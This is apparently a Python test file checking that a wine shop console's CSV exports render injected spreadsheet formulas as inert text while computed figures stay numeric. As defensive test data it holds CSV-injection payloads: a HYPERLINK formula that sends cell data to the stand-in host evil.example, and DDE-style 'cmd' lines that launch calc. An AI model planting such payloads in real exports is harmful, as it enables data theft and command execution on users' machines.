"""The console's CSV downloads open in the owner's spreadsheet as the data they are: a customer's
words, a wine's name from the shop's feed or a feed file's name never become a formula (OWASP's
CSV injection), while the numbers the console computed stay numbers."""

from __future__ import annotations

import json
from pathlib import Path

from sqlalchemy import text

from services.app.runtime import Runtime
from tests.bot_helpers import adult, ask
from tests.console_harness import CUSTOMER, console_stack, csv_rows, http_get

AUTH = {"Authorization": "Bearer console-secret"}
# What a spreadsheet reads as the start of a formula (or of a cell it re-parses).
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
# Requests the catalog cannot meet (nothing that cheap), each a group of its own on the Unmet
# view, worded to put a formula into the owner's spreadsheet.
HOSTILE_WORDS = (
    '=HYPERLINK("http://evil.example/?d="&A1,"Открыть") пино нуар до 500 рублей',
    "@SUM(1+1)*cmd|' /C calc'!A0 розовое до 300 рублей",
    "-2+3 белое сладкое до 200 рублей",
    "+7 красное полусладкое до 150 рублей",
)
FEED_FILE = '=HYPERLINK("evil.example","Открыть").json'
SEPARATED = 'Шато "Ла Тур", 2019; ,=1+2'  # quotes and separators inside one name


def _inert(cell: str) -> bool:
    return not cell.startswith(TRIGGERS) and not cell.lstrip().startswith(TRIGGERS)


async def test_customers_words_in_the_unmet_csv_open_as_text(seeded: Runtime) -> None:
    async with console_stack(seeded, api_token="console-secret") as stack:
        await adult(stack.bot, CUSTOMER)
        for words in HOSTILE_WORDS:
            await ask(stack.bot, CUSTOMER, words)
        status, body, _ = await http_get(
            f"{stack.base}/console/unmet.csv?table=requests&days=7", headers=AUTH
        )
    assert status == 200
    rows = csv_rows(body)
    assert rows[0] == ["Что просили", "Запросов", "Что было", "Как просили"]
    assert all(_inert(cell) for row in rows for cell in row), rows
    asked = {row[3] for row in rows[1:]}
    # Each wording is kept whole, a single quote in front (a spreadsheet shows it as text).
    assert {"'" + words for words in HOSTILE_WORDS} <= asked, asked
    # The cell is quoted, its own quotes doubled: nothing inside it starts another cell.
    assert '"\'=HYPERLINK(""http://evil.example/?d=""&A1,""Открыть"") пино' in body


async def test_feed_names_and_a_feed_files_name_in_the_csv_open_as_text(
    seeded: Runtime, tmp_path: Path
) -> None:
    """The import refuses a name that starts a formula; a catalog that got one anyway (loaded
    before that check, or written to the database another way) still exports it as text, and
    a feed file's own name — shown in the Catalog view — is checked by nobody else."""
    async with seeded.sessions() as s:
        await s.execute(
            text(
                "UPDATE wines SET name = :name, producer = :producer "
                "WHERE id = (SELECT id FROM wines ORDER BY price_rub DESC LIMIT 1)"
            ),
            {"name": "-2+3+cmd|' /C calc'!A0", "producer": "\t=1+2"},
        )
        await s.commit()
    feed = tmp_path / FEED_FILE
    feed.write_text(
        json.dumps(
            [
                {
                    "id": "F-1",
                    "name": SEPARATED,
                    "producer": "Шато",
                    "country": "Франция",
                    "wine_type": "красное",
                    "sweetness": "сухое",
                    "price": 4200,
                }
            ]
        )
    )
    async with console_stack(seeded, api_token="console-secret") as stack:
        report = await stack.bot.services.catalog_admin.import_catalog(str(feed))
        assert report.inserted == 1
        _, wines, _ = await http_get(f"{stack.base}/console/wines.csv?table=never", headers=AUTH)
        _, syncs, _ = await http_get(f"{stack.base}/console/catalog.csv?table=syncs", headers=AUTH)
    never = csv_rows(wines)
    assert all(_inert(cell) for row in never for cell in row)
    by_name = {row[0]: row for row in never[1:]}
    assert by_name["'-2+3+cmd|' /C calc'!A0"][1] == "'\t=1+2"
    assert by_name[SEPARATED][1:] == ["Шато", "4200"]  # one cell, as it was
    sources = [row[1] for row in csv_rows(syncs)[1:]]
    assert sources == ["'" + FEED_FILE], sources


async def test_a_falling_demand_exports_its_change_as_a_negative_number(seeded: Runtime) -> None:
    """«-50» the console computed is a number a spreadsheet can sum, not text with a quote."""
    async with console_stack(seeded, api_token="console-secret") as stack:
        await adult(stack.bot, CUSTOMER)
        for _ in range(3):
            await ask(stack.bot, CUSTOMER, "белое сухое")
        async with seeded.engine.begin() as conn:  # two of the three asked in the week before
            await conn.execute(
                text(
                    "UPDATE answer_facts SET created_at = created_at - interval '8 days' "
                    "WHERE id IN (SELECT id FROM answer_facts WHERE style = 'белое сухое' "
                    "ORDER BY created_at LIMIT 2)"
                )
            )
        _, body, _ = await http_get(
            f"{stack.base}/console/demand.csv?table=style&days=7", headers=AUTH
        )
    rows = csv_rows(body)
    assert rows[0][-2:] == ["Период до", "Изменение, %"]
    white = next(row for row in rows[1:] if row[0] == "белое сухое")
    assert white[1:2] + white[3:] == ["1", "2", "-50"]
    assert '"белое сухое",1,100.0,2,-50\r\n' in body  # bare numbers, the text quoted
